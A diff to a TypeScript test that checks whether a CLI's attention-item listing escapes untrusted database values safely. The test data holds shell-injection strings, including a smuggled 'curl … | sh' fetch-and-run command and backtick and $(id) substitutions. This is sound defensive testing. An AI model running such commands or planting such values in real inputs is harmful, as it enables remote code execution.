@@ -32,13 +32,13 @@ describeOnBothDatabases('an item of somebody who wrote to the database', (open) 
     await database.db.attentionItem.create({
       data: {
         ...{ reference: 'account:nano_1;curl -s example.com|sh', kind: 'auditMismatch' },
-        ...{ paymentId: 'pay_1`id`', detail: { account: '$(id)', index: 3 }, createdAt: new Date(0) },
+        ...{ paymentId: 'pay_1`id`', detail: { account: '$(id)' }, createdAt: new Date(0) },
       },
     });
     const deps = { database, clock: systemClock, config: readConfig({}), log: createLog('test', 'silent') };
     const { text } = await runCommand(deps, ['list-attention']);
     expect(text).toBe(
-      '"account:nano_1;curl -s example.com|sh"  auditMismatch  "pay_1`id`"  since 1970-01-01T00:00:00.000Z  account="$(id)" index=3',
+      '"account:nano_1;curl -s example.com|sh"  auditMismatch  "pay_1\\u{60}id\\u{60}"  since 1970-01-01T00:00:00.000Z  account="\\u{24}(id)"',
     );
   });
 });
